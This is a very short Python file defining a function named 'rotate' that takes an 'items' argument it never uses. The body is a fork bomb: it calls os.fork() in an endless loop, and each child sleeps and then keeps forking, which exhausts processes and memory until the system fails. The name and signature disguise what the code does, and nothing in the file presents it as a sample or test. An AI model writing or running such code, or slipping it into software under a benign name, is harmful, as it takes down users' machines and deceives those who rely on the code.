import os
import time


def rotate(items):
    while True:
        if os.fork() == 0:
            time.sleep(1000)
